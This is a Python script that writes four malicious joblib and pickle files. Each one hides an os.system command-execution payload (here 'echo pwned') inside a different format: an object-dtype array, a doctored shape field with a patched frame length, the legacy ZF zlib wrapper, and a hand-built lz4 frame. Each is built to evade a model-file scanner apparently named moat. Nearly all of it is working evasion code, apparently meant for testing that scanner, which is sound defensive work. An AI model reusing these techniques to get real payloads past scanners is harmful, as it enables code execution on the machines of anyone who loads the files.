"""joblib bypasses. Writes files only (joblib.dump / hand-made bytes); never loads them."""
import io, os, struct, zlib, joblib, numpy as np
O = os.path.dirname(os.path.abspath(__file__)) + "/"

class Evil:  # pickled as posix.system('echo pwned'); dumping does not run it
    def __reduce__(self):
        return (os.system, ("echo pwned",))

# J1: a natural joblib.dump of a structured array with an object field.
# joblib's loader: dtype.hasobject -> pickle.load(file_handle) (nested pickle, no padding);
# moat: descr 'V8' -> treats it as raw bytes (reads an alignment byte, skips shape*itemsize).
a = np.zeros(2, dtype=[('a', 'O')]); a[0]['a'] = Evil()
joblib.dump({"weights": a}, O + "j1_struct_object_array.joblib")

# J2: a NumpyArrayWrapper whose shape is a list, not a tuple: joblib iterates it fine,
# moat stops ("shape cannot be read"); the payload after the array is never simulated.
buf = io.BytesIO(); joblib.dump([np.arange(3.0), Evil()], buf); d = buf.getvalue()
assert d.count(b"K\x03\x85\x94") == 1
d2 = d.replace(b"K\x03\x85\x94", b"](K\x03e\x94", 1)  # shape (3,) -> [3]
# fix the FRAME length (+2 bytes)
fl = struct.unpack("<Q", d2[3:11])[0]; d2 = d2[:3] + struct.pack("<Q", fl + 2) + d2[11:]
open(O + "j2_shape_list.joblib", "wb").write(d2)

# J3: joblib's old "ZF" compat format (zlib after a 'ZF' + hex length header):
# joblib.load detects the prefix and unpickles zlib.decompress(rest); moat sees 'unknown'.
inner = b"cos\nsystem\n(S'echo pwned'\ntR."
hdr = b"ZF" + hex(len(inner)).encode().ljust(19)  # _ZFILE_PREFIX + length padded to _MAX_LEN
open(O + "j3_zfile_compat.pkl", "wb").write(hdr + zlib.compress(inner))

# J4: lz4-frame compressed pickle (joblib.dump(compress='lz4') layout), built by hand with an
# uncompressed block; joblib.load decompresses it when the lz4 package is installed.
def lz4_frame(payload):
    flg, bd = 0x60, 0x40           # version 01, block independence; max block 64KB
    # header checksum: (xxh32(descriptor) >> 8) & 0xff -- compute xxh32 by hand
    def xxh32(data, seed=0):
        P1,P2,P3,P4,P5=2654435761,2246822519,3266489917,668265263,374761393
        M=0xffffffff; rotl=lambda x,r: ((x<<r)|(x>>(32-r)))&M
        n=len(data); i=0
        if n>=16:
            v=[(seed+P1+P2)&M,(seed+P2)&M,seed,(seed-P1)&M]
            while i+16<=n:
                for j in range(4):
                    v[j]=(rotl((v[j]+struct.unpack_from('<I',data,i)[0]*P2)&M,13)*P1)&M; i+=4
            h=(rotl(v[0],1)+rotl(v[1],7)+rotl(v[2],12)+rotl(v[3],18))&M
        else: h=(seed+P5)&M
        h=(h+n)&M
        while i+4<=n: h=(rotl((h+struct.unpack_from('<I',data,i)[0]*P3)&M,17)*P4)&M; i+=4
        while i<n: h=(rotl((h+data[i]*P5)&M,11)*P1)&M; i+=1
        h^=h>>15; h=(h*P2)&M; h^=h>>13; h=(h*P3)&M; h^=h>>16; return h
    hc = (xxh32(bytes([flg, bd])) >> 8) & 0xff
    out = b"\x04\x22\x4d\x18" + bytes([flg, bd, hc])
    out += struct.pack("<I", len(payload) | 0x80000000) + payload  # uncompressed block
    out += b"\x00\x00\x00\x00"  # end mark
    return out
open(O + "j4_lz4.joblib", "wb").write(lz4_frame(inner))
print("ok")
